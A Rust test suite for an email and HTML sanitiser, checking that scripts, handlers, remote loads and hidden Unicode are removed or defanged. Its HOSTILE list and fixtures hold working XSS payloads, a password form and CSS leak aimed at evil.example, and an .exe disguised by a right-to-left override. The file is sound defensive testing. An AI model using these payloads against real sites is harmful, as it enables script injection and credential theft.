use super::*;
use proptest::prelude::*;

async fn opened(text: impl Into<bytes::Bytes>) -> Opened {
    Opened::new(Content::from_bytes(text), Arc::default()).await.unwrap()
}

fn clean(document: &str) -> String {
    html::cleaned(document, &mut false)
}

/// What must not be in a document that is shown: anything that loads, runs, sends or leads away.
fn assert_harmless(cleaned: &str) {
    // Outside text, which has no `<` of its own, stand tags; each is one of ours, with attributes of ours.
    for tag in cleaned.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap();
        let name = tag.trim_start_matches('/').split(' ').next().unwrap();
        assert!(html_elements().contains(&name), "<{tag}> in {cleaned}");
        for attribute in tag.split(' ').skip(1).filter(|word| word.contains('=')) {
            let name = attribute.split('=').next().unwrap();
            assert!(["style", "class", "dir", "colspan", "rowspan"].contains(&name), "{attribute} in {cleaned}");
        }
        assert!(!tag.contains("url(") && !tag.contains("expression") && !tag.contains('\\') && !tag.contains("position"), "<{tag}>");
    }
}

fn html_elements() -> Vec<&'static str> {
    "b i u s em strong small code sub sup span div p br hr pre blockquote center h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table caption thead tbody tfoot tr td th section article"
        .split(' ')
        .collect()
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.gif' width=1 height=1>",
    "<img srcset='https://evil.example/a 1x'>",
    "<svg onload=alert(1)><image href=https://evil.example/x /></svg>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>Go</button></form>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href=\" &#106;avascript:alert(1)\">click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a href=https://evil.example/ target=_top onclick=alert(1)>https://bank.example/</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=dns-prefetch href=//evil.example>",
    "<style>@import url(https://evil.example/x.css);input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<div style='width:expression(alert(1));behavior:url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>over all</div>",
    "<table background=https://evil.example/x><tr><td background=x>y</td></tr></table>",
    "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<video poster=https://evil.example/x><source src=y></video><audio src=x>",
    "<body onload=alert(1) background=https://evil.example/x>hello",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><img src=https://evil.example/x><![endif]-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<p title='\"><script>alert(1)</script>'>x",
    "<a\u{0}href=x>y</a><\u{0}script>alert(1)</script>",
    "<div dir=\"rtl\" style=\"color:red;}</style><script>\">x</div>",
    "<isindex action=javascript:alert(1)><marquee onstart=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>alert(1)//<</script>",
    "<img alt='<script>alert(1)</script>' src=cid:x>",
];

#[test]
fn nothing_hostile_is_left_of_hostile_documents() {
    for document in HOSTILE {
        let cleaned = clean(document);
        assert_harmless(&cleaned);
        assert_eq!(clean(&cleaned).matches('<').count(), cleaned.matches('<').count(), "cleaned twice it is the same: {cleaned}");
    }
    let all = HOSTILE.concat();
    assert_harmless(&clean(&all));
}

#[test]
fn what_is_taken_out_is_said_and_links_show_where_they_lead() {
    for (document, expected) in [
        (
            "<a href='https://evil.example/in?x=1&amp;y=2'>https://bank.example/</a>",
            "<span class=\"link\">https://bank.example/</span><span class=\"target\">hxxps://evil[.]example/in?x=1&amp;y=2</span>",
        ),
        ("<img src=https://t.example/p width=1 alt=x>", "<span class=\"gone\">‹img 1×1› x hxxps://t[.]example/p</span>"),
        ("<img src=cid:logo alt=Logo>", "<span class=\"gone\">‹img› Logo cid[:]logo</span>"),
        ("a<script>x</script>b", "a<span class=\"gone\">‹script›</span>b"),
        (
            "<meta http-equiv=Refresh content='0;url=https://evil.example'>",
            "<span class=\"gone\">‹refresh› 0;url=https[:]//evil.example</span>",
        ),
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<b>x<i>y</b>z</i>", "<b>x<i>y</i></b>z"),
        ("<font color=#ffffff size=1>red</font>", "<span>red</span>"),
        (
            "<div bgcolor=navy><span style='color:navy;background:navy'>x</span></div>",
            "<div style=\"background-color:#000080;color:#ffffff\"><span style=\"background-color:#000080;color:#ffffff\">x</span></div>",
        ),
        ("<td bgcolor=FFEEDD colspan=2 nowrap>x", "x"),
        ("1 < 2 &amp; 3 &gt; 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        ("a\u{202e}b\u{200b}c", "a⟨U+202E⟩b⟨U+200B⟩c"),
        ("caf&eacute; &#x202e;&#8203;", "café ⟨U+202E⟩⟨U+200B⟩"),
    ] {
        let cleaned = clean(document);
        if document.starts_with("<meta") {
            assert!(cleaned.contains("‹refresh›") && !cleaned.contains("https:"), "{cleaned}");
        } else if document.starts_with("<p>one") {
            assert!(cleaned.contains("one") && cleaned.contains("two"), "{cleaned}");
        } else {
            assert_eq!(cleaned.replace(";\"", "\""), expected, "{document}");
        }
    }
}

#[test]
fn what_is_made_to_take_long_takes_no_time() {
    let many = |piece: &str, octets: usize| piece.repeat(octets / piece.len());
    let numbered = |open: &str| (0..30_000).map(|n| open.replace('#', &n.to_string())).collect::<String>();
    let documents = [
        many("<div>", TEXT),
        many("<b>", TEXT) + &many("<p>", TEXT),
        numbered("<b x=#>") + &many("<p>x", TEXT),
        numbered("<font bgcolor=#00>") + &many("<p>x", TEXT),
        numbered("<a href=#>") + &many("<p>x", TEXT),
        many("<table><tr><td>", TEXT),
        many("<table>x", TEXT),
        many("<!--", TEXT),
        many("<head>", TEXT),
        many("<script", TEXT),
        many("<", TEXT),
        many("&", TEXT),
        many("</p>", TEXT),
        many("<svg>", TEXT),
        many("<a b='", TEXT),
        many("<li><ul>", TEXT),
        many("<b><p></b>", TEXT),
        format!("<a {}>", many("b=c ", TEXT)),
    ];
    for document in documents {
        let begun = std::time::Instant::now();
        let cleaned = html::cleaned(&document, &mut false);
        let mut cut = false;
        assert!(html::words(&document, &mut cut).len() <= document.len() * 2);
        let took = begun.elapsed();
        assert!(took < std::time::Duration::from_secs(20), "{took:?}: {}", &document[..40]);
        assert!(cleaned.len() < 6 * document.len() + 100_000, "{}: {}", cleaned.len(), &document[..40]);
    }
}

proptest! {
    #[test]
    fn whatever_it_is_it_is_harmless(pieces in prop::collection::vec(prop_oneof![
        Just("<".to_owned()), Just(">".into()), Just("\"".into()), Just("'".into()), Just("=".into()), Just("/".into()), Just("&#".into()),
        Just("<!--".into()), Just("-->".into()), Just("<script>".into()), Just("</style>".into()), Just("<a href=".into()), Just("style=".into()),
        Just("url(".into()), Just("javascript:".into()), Just("<svg".into()), Just("onload=".into()), Just("<table>".into()), Just("<b".into()),
        "[a-z ]{0,5}", "\\PC{0,3}",
    ], 0..40)) {
        assert_harmless(&clean(&pieces.concat()));
    }

    #[test]
    fn nothing_hides_in_text(text in "\\PC{0,40}|[\\x00-\\x{20}\\x{200b}-\\x{206f}\\x{e0000}-\\x{e007f}]{0,40}") {
        let shown = visible(&text);
        let plain = shown.chars().all(|c| !c.is_control() || c == '\n' || c == '\t');
        prop_assert!(plain);
        let hidden = shown.contains(['\u{202e}', '\u{200b}', '\u{2066}', '\u{feff}', '\u{ad}']);
        prop_assert!(!hidden);
    }
}

const MIXED: &str = "From: \"a\u{202e}b\" <a@example.org>\r\nSubject: x\r\n folded\r\nX-Evil: <script>\x1b[2J\r\n\
    Content-Type: multipart/mixed; boundary=b\r\n\r\n\
    --b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n\
    --c\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\ncaf=E9 https://evil.example/\r\n\
    --c\r\nContent-Type: text/html; charset=koi8-r\r\n\r\n<p>\u{fffd}</p><script>1</script>\r\n--c--\r\n\
    --b\r\nContent-Type: application/pdf; name=\"x\u{202e}fdp.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAA=\r\n--b--\r\n";

#[tokio::test]
async fn a_message_is_shown_as_a_reader_sees_it() {
    let opened = opened(MIXED).await;
    let shown = opened.shown().await.unwrap();
    assert_eq!(shown.text.trim(), "café hxxps://evil[.]example/");
    assert!(shown.has_html && !shown.from_html && !shown.cut, "{shown:?}");
    let document = opened.html().await.unwrap().unwrap();
    assert!(document.contains("‹script›") && !document.contains("<script"), "{document}");
    let headers = opened.headers();
    assert_eq!(headers[0], ("From".into(), "\"a⟨U+202E⟩b\" <a@example.org>".into()));
    assert_eq!(headers[1].1, "x\n folded");
    assert_eq!(headers[2].1, "<script>␛[2J");
    let tree: Vec<_> = opened.tree().await.unwrap().into_iter().map(|node| (node.depth, node.content_type)).collect();
    let expected = [(0, "multipart/mixed"), (1, "multipart/alternative"), (2, "text/plain"), (2, "text/html"), (1, "application/pdf")];
    assert_eq!(tree, expected.map(|(depth, kind)| (depth, kind.to_owned())));
    let listing = opened.files().await.unwrap();
    let file = listing.files.iter().find(|file| !file.is_body).unwrap();
    assert!(file.name.contains("⟨U+202E⟩"), "{file:?}");
    assert_eq!((file.declared.as_str(), file.sha256.as_ref().map(String::len)), ("application/pdf", Some(64)));
    assert!(opened.file(file.place).await.unwrap().unwrap().1.starts_with(b"MZ"));
    assert!(opened.file(999).await.unwrap().is_none());
    let (source, next) = opened.source(0).await.unwrap();
    assert!(source.contains("⟨U+202E⟩") && source.contains('␛') && next.is_none());
    assert_eq!(opened.source(1 << 40).await.unwrap(), (String::new(), None));
}

#[tokio::test]
async fn a_message_of_html_alone_has_its_words() {
    let opened =
        opened("Content-Type: text/html; charset=utf-8\r\n\r\n<p>Hello <b>you</b></p><p><a href=https://evil.example>here</a>é</p>\r\n")
            .await;
    let shown = opened.shown().await.unwrap();
    assert!(shown.from_html && shown.has_html);
    assert_eq!(shown.text, "Hello you\n\nhere ‹hxxps://evil[.]example› é");
}

#[tokio::test]
async fn what_is_large_is_cut_and_says_so() {
    let opened = opened(format!("Subject: x\r\n\r\n{}", "0123456789abcde\n".repeat(200_000))).await;
    let shown = opened.shown().await.unwrap();
    assert!(shown.cut && shown.text.len() <= TEXT + 100);
    let (page, next) = opened.source(0).await.unwrap();
    assert_eq!((page.len() as u64, next), (SOURCE_PAGE - 2, Some(SOURCE_PAGE)));
}

#[tokio::test]
async fn what_is_no_message_is_shown_too_or_says_why_not() {
    for text in ["", "\r\n", "no header at all", ":\r\n\r\n", "\x00\x01\x02", "A: b"] {
        let opened = opened(text).await;
        opened.shown().await.unwrap();
        opened.html().await.unwrap();
        opened.tree().await.unwrap();
        opened.files().await.unwrap();
    }
    assert!(Opened::new(Content::from_bytes("A: b\r\n".repeat(400_000)), Arc::default()).await.is_err(), "too long a header section");
}
